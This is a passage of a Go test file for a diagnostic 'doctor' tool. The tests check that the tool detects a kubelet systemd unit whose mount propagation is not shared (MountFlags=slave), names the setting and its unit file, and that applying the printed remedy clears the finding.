		systemd-run -q --unit=kubelet -p Type=exec -p MountFlags=slave -p PrivateMounts=no -p PrivateTmp=no -p ProtectSystem=no -p ProtectHome=no -p ReadOnlyPaths=/opt kubelet infinity`)
	m.runRemedy(t, "MountFlags=slave", "/run/systemd/transient/kubelet.service")
	m.run(inHosts)
}

// notSharedBack returns the remedy of the finding about the mount namespace of kubelet's service. notSharedBack ignores
// findings about the test's own container.
func (m machine) notSharedBack(t *testing.T) []string {
	t.Helper()
	r, _ := m.examined()
	for _, f := range r.Findings {
		if f.Kind == doctor.NotSharedBack || f.Kind == doctor.OtherDirectory {
			return f.Do
		}
	}
	t.Errorf("nothing is found:\n%s", words(r))
	return nil
}

// runRemedy checks that the doctor names the setting and its file, and runs the printed remedy. After the remedy, the
// doctor must have no finding about kubelet.
func (m machine) runRemedy(t *testing.T, setting, file string) {
	t.Helper()
	do := strings.Join(m.notSharedBack(t), "\n")
	name, _, _ := strings.Cut(setting, "=")
	if !strings.Contains(do, name+"=") || !strings.Contains(do, " in "+file) {
		t.Errorf("%s in %s is not named:\n%s", setting, file, do)
	}
	m.run(do)
	pid := m.run("systemctl show -P MainPID kubelet")
	r, _ := m.examined()
	if n, err := strconv.Atoi(pid); err != nil || len(kinds(r, n)) > 0 {
		t.Errorf("after the remedy for %s:\n%s\nthe doctor finds\n%s", setting, do, words(r))
	}
}
